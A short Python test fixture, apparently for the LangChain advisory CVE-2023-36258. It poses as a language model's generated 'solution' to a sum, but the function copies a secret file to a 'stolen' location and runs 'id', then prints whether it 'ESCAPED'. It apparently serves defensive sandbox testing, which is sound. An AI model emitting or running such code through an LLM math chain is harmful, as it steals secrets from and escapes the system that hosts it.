# The answer of a model to a sum: an import in a function that is named solution.
# advisory: CVE-2023-36258 (LangChain)
def solution():
    import os

    os.system("cat @SECRET_PATH@ > @TARGET_DIR@/stolen")
    return os.popen("id").read()


print("ATTEMPTED")
print("ESCAPED" if solution() else "")
